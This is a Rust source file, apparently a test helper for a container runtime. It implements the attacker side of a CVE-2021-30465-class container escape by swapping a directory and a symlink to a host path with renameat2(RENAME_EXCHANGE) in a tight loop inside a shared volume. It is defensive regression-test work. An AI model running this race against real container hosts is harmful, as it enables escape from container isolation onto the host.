//! The attacker of issue 22 (CVE-2021-30465 class), run inside a container: in a
//! volume it shares with other containers of its pod it keeps a directory and a
//! symlink to a host directory, and swaps the two names with
//! renameat2(RENAME_EXCHANGE) as fast as it can, so that whoever walks a path through
//! that name in between lands on the host.
//!
//! Usage: `berth-swapper <dir> <link> <link-target> [seconds]`. Prints `swapping`
//! once both names exist, then runs for `seconds` (default 120) and prints how many
//! swaps it made. Bounded so a test that loses track of it leaves no busy loop behind.

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::time::{Duration, Instant};

fn cstr(p: &Path) -> CString {
    CString::new(p.as_os_str().as_bytes()).unwrap_or_default()
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.len() < 4 {
        eprintln!("usage: berth-swapper <dir> <link> <link-target> [seconds]");
        std::process::exit(2);
    }
    let (dir, link, target) = (Path::new(&args[1]), Path::new(&args[2]), &args[3]);
    let secs = args.get(4).and_then(|s| s.parse().ok()).unwrap_or(120u64);
    let _ = std::fs::create_dir(dir);
    if std::fs::symlink_metadata(link).is_err()
        && let Err(e) = std::os::unix::fs::symlink(target, link)
    {
        eprintln!("symlink {}: {e}", link.display());
        std::process::exit(1);
    }
    println!("swapping");
    let (a, b) = (cstr(dir), cstr(link));
    let deadline = Instant::now() + Duration::from_secs(secs);
    let mut swaps = 0u64;
    while Instant::now() < deadline {
        for _ in 0..1000 {
            // SAFETY: two NUL-terminated paths that outlive the call; integer flags.
            let rc = unsafe {
                libc::renameat2(
                    libc::AT_FDCWD,
                    a.as_ptr(),
                    libc::AT_FDCWD,
                    b.as_ptr(),
                    libc::RENAME_EXCHANGE,
                )
            };
            if rc == 0 {
                swaps += 1;
            }
        }
    }
    println!("swapped {swaps} times");
}
